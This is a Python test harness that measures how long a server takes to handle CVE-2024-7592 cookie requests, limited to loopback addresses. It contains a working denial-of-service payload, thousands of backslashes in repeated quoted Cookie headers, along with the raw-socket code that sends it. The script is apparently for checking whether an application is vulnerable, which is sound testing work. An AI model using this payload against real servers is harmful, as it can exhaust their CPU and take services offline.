"""Time the CVE-2024-7592 cookie attack against a running server and print a table.

    python -m harness.cookie_attack http://127.0.0.1:8000/healthz/ [1 2 4 8]

Each request carries N ``Cookie`` headers of about 8 KB of backslashes inside quotes (WSGI
joins repeated headers into one value). On Python < 3.11.10 the standard library's cookie
unquoting is quadratic in that length, so the time grows four-fold for every doubling of N
unless the application refuses such headers before parsing them. Sends to loopback only.
"""

import socket
import sys
import time
from urllib.parse import urlsplit

PAYLOAD = 'a="' + "\\" * 8000 + '"'  # under gunicorn's 8190-byte limit for one header line


def attack(host, port, path, count, timeout=1800):
    request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
    request += "".join(f"Cookie: {PAYLOAD}\r\n" for _ in range(count)) + "\r\n"
    started = time.perf_counter()
    with socket.create_connection((host, port), timeout=timeout) as conn:
        conn.sendall(request.encode())
        response = b""
        while chunk := conn.recv(65536):
            response += chunk
    elapsed = time.perf_counter() - started
    status_line, _, rest = response.partition(b"\r\n")
    body = rest.partition(b"\r\n\r\n")[2]
    return elapsed, status_line.decode(errors="replace"), body[:80].decode(errors="replace")


def main():
    url = urlsplit(sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1:8000/healthz/")
    if url.hostname not in {"127.0.0.1", "localhost", "::1"}:
        sys.exit("loopback only")
    counts = [int(n) for n in sys.argv[2:]] or [1, 2, 4, 8]
    print(f"{'Cookie headers':>14} | {'bytes':>7} | {'seconds':>8} | response")
    print(f"{'-' * 14}-+-{'-' * 7}-+-{'-' * 8}-+-{'-' * 40}")
    for count in counts:
        elapsed, status, body = attack(url.hostname, url.port or 80, url.path or "/", count)
        print(f"{count:>14} | {count * len(PAYLOAD):>7} | {elapsed:>8.2f} | {status} {body.strip()!r}")


if __name__ == "__main__":
    main()
